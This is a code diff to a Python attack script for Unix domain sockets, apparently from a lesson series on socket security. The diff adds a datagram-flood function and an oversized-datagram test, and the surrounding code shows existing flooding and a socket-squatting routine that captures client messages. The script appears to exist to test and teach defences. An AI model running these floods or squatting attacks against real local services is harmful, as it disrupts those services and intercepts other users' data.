@@ -4,6 +4,7 @@ Run as another user (setpriv); prints one summary line per attack, nothing the s
 An address starting with @ is an abstract name (lesson 02), anything else a socket file.
 """
 import array
+import errno
 import os
 import resource
 import selectors
@@ -246,6 +247,31 @@ def send_datagram(target, text, fds=0, kind=socket.SOCK_DGRAM, report=True):
     return s
 
 
+def datagram_flood(target, seconds, size):
+    """Sends datagrams of size bytes for seconds, as fast as the receiver's queue takes them."""
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    s.settimeout(1.0)  # a full queue blocks a sender: never longer than this at a time
+    payload, sent = b"f" * size, 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            s.sendto(payload, address(target))
+            sent += 1
+        except socket.timeout:
+            pass
+    print(f"sent {sent} datagrams of {size} bytes in {seconds:g} s", flush=True)
+
+
+def big_datagram(target, size):
+    """Sends one datagram of size bytes; says whether the kernel took it."""
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    try:
+        s.sendto(b"z" * size, address(target))
+        print(f"sent one datagram of {size} bytes", flush=True)
+    except OSError as e:
+        print(f"a datagram of {size} bytes refused: {errno.errorcode.get(e.errno, e.errno)}", flush=True)
+
+
 def squat_seqpacket(target, seconds):
     """Binds target before the real server does and records what clients send it."""
     s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
@@ -303,6 +329,10 @@ def main(argv):
         flood(target, int(rest[0]), seq)
     elif command == "datagram":
         send_datagram(target, rest[0], int(rest[1]) if len(rest) > 1 else 0)
+    elif command == "datagram-flood":
+        datagram_flood(target, float(rest[0]), int(rest[1]))
+    elif command == "big-datagram":
+        big_datagram(target, int(rest[0]))
     elif command == "squat-seqpacket":
         squat_seqpacket(target, float(rest[0]))
     elif command == "datagrams":
